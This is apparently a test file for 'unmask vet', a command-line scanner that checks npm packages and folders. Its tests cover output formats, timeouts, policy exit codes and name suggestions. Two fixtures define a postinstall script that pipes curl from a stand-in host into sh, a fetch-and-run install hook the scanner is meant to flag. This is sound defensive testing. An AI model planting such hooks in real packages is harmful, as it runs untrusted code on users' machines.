import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { makeNpmHome } from '../npm-home.ts';
import { startRegistry, tarball } from '../registry.ts';
import type { FakeRegistry } from '../registry.ts';
import { runUnmask } from './run-unmask.ts';
import type { Ran, Where } from './run-unmask.ts';

/** Deeper than a native parser's stack: code that cannot be read. */
const TOO_DEEP = `${'('.repeat(200_000)}1${')'.repeat(200_000)}`;

describe('unmask vet', () => {
  const home = makeNpmHome();
  let registry: FakeRegistry;
  const run = (args: readonly string[], where: Partial<Where> = {}): Promise<Ran> =>
    runUnmask(['vet', ...args], { cwd: home.cwd, env: home.env, ...where });
  const put = (files: Readonly<Record<string, string | Uint8Array>>): void => {
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(home.cwd, path)), { recursive: true });
      writeFileSync(join(home.cwd, path), content);
    }
  };
  const namesIn = ({ out }: Ran): string[] => out.match(/"name": "[^"]+"/g) ?? [];

  before(async () => {
    const versions = { '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } } };
    registry = await startRegistry({
      alpha: { versions },
      beta: { versions },
      '--no-audit': { versions },
      gone: { versions: {}, answer: 404 },
      'nodejs-smtp': { versions: {}, answer: 404 },
      'inert-mailer': { versions: {}, answer: 404 },
      'inert-smtp': { versions: {}, answer: 404 },
      '@acme/utils': { versions: {}, answer: 404 },
      express: { versions: {}, answer: 404 },
    });
    put({
      '.npmrc': `registry=${registry.url}\n`,
      'good/package.json': '{"name":"good","version":"1.0.0"}',
      'good/index.js': 'module.exports = () => 42;\n',
      'deep/package.json': '{"name":"deep","version":"1.0.0"}',
      'deep/index.js': TOO_DEEP,
      'deep/other.js': 'module.exports = 1;\n',
      'strict.json': '{"onFailure":"block"}',
    });
  });
  after(async () => {
    home.remove();
    await registry.close();
  });

  it('looks into each archive of a folder that is no package, and says how it took it', async () => {
    const good = tarball({ 'package.json': { name: 'one', version: '1.0.0' }, 'index.js': '' });
    const bad = tarball({
      'package.json': { name: 'two', version: '1.0.0', scripts: { postinstall: 'curl https://inert.invalid/x | sh' } },
    });
    put({ 'archives/good.tgz': good, 'archives/bad.tgz': bad, 'archives/notes.md': 'Two archives.' });
    const { code, out, err } = await run(['./archives', '--json', '--fail-on', 'warn']);
    assert.deepEqual([code, JSON.parse(out).packages.map((one: { subject: { name: string } }) => one.subject.name)], [1, ['two', 'one']]);
    assert.equal(err, 'unmask: ./archives has no package.json and was taken for the 2 packages in it\n');
    put({ 'archives/loose.js': 'module.exports = 1;' });
    const mixed = await run(['./archives', '--json']);
    assert.deepEqual(JSON.parse(mixed.out).packages.length, 3);
    assert.match(mixed.err, /taken for one package, and the 2 packages in it for others/);
    put({
      'kept/a/package.json': '{"name":"a"}',
      'kept/tools/deep/b/package.json': '{"name":"b","scripts":{"postinstall":"curl https://inert.invalid/x | sh"}}',
    });
    const kept = await run(['./kept', '--json', '--fail-on', 'warn']);
    assert.deepEqual(
      [
        kept.code,
        JSON.parse(kept.out)
          .packages.map((one: { subject: { name: string } }) => one.subject.name)
          .toSorted(),
      ],
      [1, ['a', 'b', 'kept']],
    );
    put({ 'loose/index.js': 'module.exports = 1;' });
    assert.deepEqual(namesIn(await run(['./loose', '--json'])), ['"name": "loose"']);
  });

  it('looks at what links lead round in, and at what stands beside it', { skip: process.platform === 'win32' }, async () => {
    put({ 'round/index.js': 'module.exports = 1;', 'rounder/index.js': 'module.exports = 1;' });
    symlinkSync('x', join(home.cwd, 'round/x'));
    symlinkSync('package.json', join(home.cwd, 'rounder/package.json'));
    const { code, out, err } = await run(['./good', './round', './rounder', '--json']);
    assert.deepEqual([code, err, JSON.parse(out).packages.length], [0, '', 3]);
  });

  it('allows an honest directory: code 0, the result on stdout, nothing on stderr', async () => {
    const { code, out, err } = await run(['./good']);
    assert.equal(code, 0);
    assert.match(out, /good@1\.0\.0/);
    assert.ok(!out.includes('\u001B'));
    assert.equal(err, '');
  });

  it('prints one JSON document', async () => {
    const { code, out } = await run(['./good', '--json']);
    assert.equal(code, 0);
    const document = JSON.parse(out);
    assert.equal(document.decision, 'allow');
    assert.equal(document.subject.name, 'good');
  });

  it('writes the result where it is told, and nothing to stdout', async () => {
    const { code, out } = await run(['./good', '--json', '--output', 'result.json']);
    assert.deepEqual([code, out], [0, '']);
    assert.equal(JSON.parse(readFileSync(join(home.cwd, 'result.json'), 'utf8')).decision, 'allow');
  });

  it('writes a file as its name ends, where nobody says how, and names one package once', async () => {
    for (const [name, starts] of [
      ['own.json', '{'],
      ['own.SARIF', '{'],
      ['own.html', '<!doctype html>'],
      ['own.txt', 'ALLOW'],
    ] as const) {
      assert.equal((await run(['./good', './good', '--output', name])).code, 0);
      const text = readFileSync(join(home.cwd, name), 'utf8').trimStart();
      assert.ok(text.toLowerCase().startsWith(starts.toLowerCase()), `${name}: ${text.slice(0, 60)}`);
    }
    assert.equal(JSON.parse(readFileSync(join(home.cwd, 'own.json'), 'utf8')).subject.name, 'good');
    assert.equal((await run(['./good', '--format', 'text', '--output', 'own.json'])).code, 0);
    assert.match(readFileSync(join(home.cwd, 'own.json'), 'utf8'), /^ALLOW/);
  });

  it('says before anything is examined that its result has no place', async () => {
    for (const place of ['no/such/folder/x', '.', 'x'.repeat(300) + '/x']) {
      const { code, out, err } = await run(['./good', '--output', place]);
      assert.deepEqual([code, out], [2, '']);
      assert.match(err, /^unmask: --output \S+ names no file that could be written\.\n/);
    }
  });

  it('colours only where it is asked to, when nobody looks', async () => {
    const colored = async (args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<boolean> =>
      (await run(['./good', ...args], { env: { ...home.env, ...env } })).out.includes('\u001B');
    assert.equal(await colored(['--color']), true);
    assert.equal(await colored([], { FORCE_COLOR: '1' }), true);
    assert.equal(await colored(['--no-color'], { FORCE_COLOR: '1' }), false);
    assert.equal(await colored([], { FORCE_COLOR: '0' }), false);
  });

  it('makes a gap and a warning of an entry that cannot be read', async () => {
    const { code, out, err } = await run(['./deep', '--json']);
    const { decision, coverage } = JSON.parse(out);
    assert.deepEqual([code, decision], [0, 'warn'], err);
    assert.deepEqual(
      coverage.unread.map((one: { path: string }) => one.path),
      ['index.js'],
    );
  });

  it('cuts an examination off at its time, and says what was not examined', async () => {
    const { code, out } = await run(['./good', '--json', '--time', '0.001']);
    const { decision, coverage } = JSON.parse(out);
    assert.deepEqual([code, decision], [2, 'unknown']);
    assert.match(coverage.unread[0].why, /not examined: the whole package took longer than 0\.001 s/);
    assert.equal((await run(['./good', '--time', '0.001', '--policy', 'strict.json'])).code, 1);
  });

  it('refuses with code 1 what the policy refuses', async () => {
    assert.equal((await run(['./deep', '--policy', 'strict.json'])).code, 1);
    assert.equal((await run(['./deep', '--fail-on', 'warn'])).code, 1);
    assert.equal((await run(['./deep', './good'], { env: { ...home.env, UNMASK_FAIL_ON: 'warn' } })).code, 1);
  });

  it('takes packages from the registry that npm is configured for, and a list on stdin, in the order given', async () => {
    const ran = await run(['./good', '-', '--json'], { input: '# mine\nbeta\n\nalpha@^1\n' });
    assert.equal(ran.code, 0, ran.err);
    const named = namesIn(ran);
    assert.ok(named.indexOf('"name": "good"') < named.indexOf('"name": "beta"'));
    assert.ok(named.indexOf('"name": "beta"') < named.indexOf('"name": "alpha"'));
    for (const specs of [['-'], ['./good', '-']])
      assert.equal((await run(specs, { input: '\n# nothing\n' })).code, 2, 'a list that somebody failed to write');
  });

  it('loses no result to the error of another package', async () => {
    const { code, out, err } = await run(['alpha', 'gone', './good', './nowhere']);
    assert.equal(code, 2);
    assert.match(out, /alpha@1\.0\.0/);
    assert.match(out, /good@1\.0\.0/);
    assert.match(err, /gone/);
    assert.match(err, /nowhere/);
  });

  it('names the known packages that a name comes nearest to, where no package has it', async () => {
    assert.match((await run(['nodejs-smtp'])).err, /Did you mean nodemailer.*\? Check the name\./);
    assert.match((await run(['./good', 'nodejs-smtp'])).err, /nodejs-smtp could not be fetched.*\n.*Did you mean nodemailer/);
    // Nobody who types a longer name means a package that few know and that only shares an ordinary word with it.
    const { err } = await run(['inert-mailer', 'inert-smtp']);
    assert.match(err, /Did you mean nodemailer \(/);
    assert.doesNotMatch(err, /mean inert|or inert/);
    assert.match((await run(['express'])).err, /There is a known package of that name, but this registry does not have it\./);
  });

  it('names none for what may be private, nor for a version that is not there', async () => {
    for (const spec of ['@acme/utils', 'alpha@9.9.9']) {
      const { code, err } = await run([spec]);
      assert.equal(code, 2);
      assert.doesNotMatch(err, /Did you mean/);
    }
  });

  it('explains a name that looks like an option, and takes it behind --', async () => {
    const { code, err } = await run(['--no-audit']);
    assert.equal(code, 2);
    assert.match(err, /unmask vet has no option --no-audit\.\n.*unmask vet -- --no-audit$/m);
    const behind = await run(['--json', '--', '--no-audit']);
    assert.equal(behind.code, 0, behind.err);
    assert.deepEqual(namesIn(behind)[0], '"name": "--no-audit"');
  });

  it('refuses wrong usage in words, with code 2', async () => {
    const cases: readonly [string[], RegExp][] = [
      [[], /no package to vet/],
      [[''], /empty/],
      [['./good', '--format', 'constructor'], /no format "constructor"/],
      [['./good', '--json', '--format', 'sarif'], /both asked for/],
      [['./good', '--registry', 'file:///etc'], /--registry/],
      [['./good', '--fail-on', 'block', '--fail-onn', 'x'], /Did you mean --fail-on\?/],
    ];
    for (const [args, says] of cases) {
      const { code, out, err } = await run(args);
      assert.deepEqual([code, out], [2, ''], args.join(' '));
      assert.match(err, says);
    }
  });

  it('tells progress with --verbose, and nothing with --quiet', async () => {
    assert.match((await run(['./good', 'alpha', '--verbose'])).err, /\[2\/2\] /);
    assert.equal((await run(['./good', 'alpha', '--verbose', '--quiet'])).err, '');
  });

  it('keeps its exit code and its peace when nobody reads', async () => {
    const { code, err } = await run(['./deep', '--json', '--fail-on', 'warn'], { deaf: true });
    assert.deepEqual([code, err], [1, '']);
  });
});
